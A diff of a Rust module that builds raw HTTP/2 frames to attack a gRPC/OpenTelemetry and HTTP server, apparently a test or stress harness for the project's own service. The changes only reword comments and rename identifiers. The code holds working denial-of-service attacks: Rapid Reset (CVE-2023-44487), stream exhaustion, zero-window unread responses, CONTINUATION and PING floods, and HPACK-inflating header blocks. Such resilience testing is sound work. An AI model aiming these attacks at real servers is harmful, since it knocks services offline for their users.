@@ -1,4 +1,4 @@
-//! Attacks in HTTP/2, frame by frame.
+//! Attacks over HTTP/2, frame by frame.
 
 use super::Attack;
 use super::http1::connect;
@@ -27,13 +27,13 @@ fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
     bytes
 }
 
-/// Headers of a call.
+/// Headers of a gRPC call.
 fn call() -> Vec<u8> {
     let path = "/opentelemetry.proto.collector.trace.v1.TraceService/Export";
     headers_of("POST", path, &[("content-type", "application/grpc"), ("te", "trailers")])
 }
 
-/// Headers of a request, none of them compressed.
+/// An uncompressed header block.
 fn headers_of(method: &str, path: &str, further: &[(&str, &str)]) -> Vec<u8> {
     let first = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "localhost")];
     let headers = first.iter().chain(further);
@@ -41,19 +41,19 @@ fn headers_of(method: &str, path: &str, further: &[(&str, &str)]) -> Vec<u8> {
     headers.flat_map(|(name, value)| [vec![0], text(name), text(value)].concat()).collect()
 }
 
-/// A connection to the receiver of gRPC.
+/// A connection to the gRPC receiver.
 fn connection(attack: &Attack<'_>) -> Option<TcpStream> {
     connection_to(attack.server.otlp_grpc, &[])
 }
 
-/// A connection that has begun with these settings.
+/// A connection that starts with these settings.
 fn connection_to(address: SocketAddr, settings: &[u8]) -> Option<TcpStream> {
     let mut stream = connect(address)?;
     stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, settings)].concat()).ok()?;
     Some(stream)
 }
 
-/// Takes what the server says without waiting for it; whether it has closed.
+/// Reads available bytes without blocking; returns whether the server has closed the connection.
 fn is_closed(stream: &mut TcpStream) -> bool {
     let _ = stream.set_nonblocking(true);
     let mut bytes = [0; 64 << 10];
@@ -68,10 +68,10 @@ fn is_closed(stream: &mut TcpStream) -> bool {
     closed
 }
 
-/// Calls that are begun and reset at once (CVE-2023-44487).
+/// Calls that are reset immediately (CVE-2023-44487).
 pub(super) fn rapid_reset(attack: Attack<'_>) {
     let headers = call();
-    while attack.goes_on() {
+    while attack.should_continue() {
         let Some(mut stream) = connection(&attack) else { continue };
         for round in 0..100 {
             let mut bytes = Vec::new();
@@ -87,10 +87,10 @@ pub(super) fn rapid_reset(attack: Attack<'_>) {
     }
 }
 
-/// Calls that begin, send a little, and never end; more than may be open.
+/// More concurrent calls than allowed, which send little and never end.
 pub(super) fn many_streams(attack: Attack<'_>) {
     let headers = call();
-    while attack.goes_on() {
+    while attack.should_continue() {
         let mut open = Vec::new();
         for _ in 0..8 {
             let Some(mut stream) = connection(&attack) else { continue };
@@ -110,13 +110,13 @@ pub(super) fn many_streams(attack: Attack<'_>) {
     }
 }
 
-/// Answers that are asked for and not taken: there is no room for a byte of them.
-pub(super) fn untaken_answers(attack: Attack<'_>) {
+/// Responses that are never read: the flow-control window is zero.
+pub(super) fn unread_responses(attack: Attack<'_>) {
     let no_window = [0, 4, 0, 0, 0, 0];
     let headers =
         ["/metrics", "/api/v1/openapi.json", "/api/v1/status", "/"].map(|path| headers_of("GET", path, &[]));
     let mut open = Vec::new();
-    while attack.goes_on() {
+    while attack.should_continue() {
         let Some(mut stream) = connection_to(attack.server.http, &no_window) else { continue };
         for (id, headers) in (1..).step_by(2).zip(headers.iter().cycle()).take(100) {
             if stream.write_all(&frame(HEADERS, END_HEADERS | END_STREAM, id, headers)).is_err() {
@@ -131,12 +131,12 @@ pub(super) fn untaken_answers(attack: Attack<'_>) {
     }
 }
 
-/// Frames that make work and say nothing, and some that cannot be.
+/// Useless, expensive, and invalid frames.
 pub(super) fn odd_frames(mut attack: Attack<'_>) {
     let headers = call();
-    while attack.goes_on() {
+    while attack.should_continue() {
         let Some(mut stream) = connection(&attack) else { continue };
-        let piece = match attack.dice.below(7) {
+        let bytes = match attack.random.below(7) {
             0 => frame(PING, 0, 0, &[7; 8]).repeat(1000),
             1 => frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 1]).repeat(1000),
             2 => frame(WINDOW_UPDATE, 0, 0, &0x7FFF_FFFF_u32.to_be_bytes()).repeat(3),
@@ -144,13 +144,13 @@ pub(super) fn odd_frames(mut attack: Attack<'_>) {
             3 => {
                 [frame(HEADERS, 0, 1, &headers), frame(CONTINUATION, 0, 1, &[0; 1000]).repeat(1000)].concat()
             }
-            // A table of names that is blown up by references.
+            // A header table that is inflated by references.
             4 => frame(HEADERS, END_HEADERS | END_STREAM, 1, &[0x82; 16_000]),
             5 => frame(DATA, 0, 1, &vec![0; 16_384]).repeat(50),
-            _ => (0..2000).map(|_| attack.dice.below(256) as u8).collect(),
+            _ => (0..2000).map(|_| attack.random.below(256) as u8).collect(),
         };
         for _ in 0..20 {
-            if stream.write_all(&piece).is_err() || is_closed(&mut stream) {
+            if stream.write_all(&bytes).is_err() || is_closed(&mut stream) {
                 break;
             }
         }
